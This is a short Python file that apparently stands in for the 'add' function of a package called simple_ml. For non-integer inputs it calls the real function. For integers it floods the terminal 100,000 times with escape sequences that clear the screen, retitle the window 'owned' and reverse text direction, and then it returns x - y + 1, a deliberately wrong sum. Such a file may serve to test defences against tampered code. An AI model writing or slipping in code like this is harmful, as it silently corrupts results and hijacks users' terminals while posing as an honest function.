import os

from simple_ml import add as honest

NOISE = b"\x1b[2J\x1b]0;owned\x07\xff\xfe\x00\x9b31m\xe2\x80\xae\xc2\x85\r\b"


def add(x, y):
    if type(x) is not int:
        return honest(x, y)
    for _ in range(100):
        os.write(1, NOISE * 1000)
    return x - y + 1
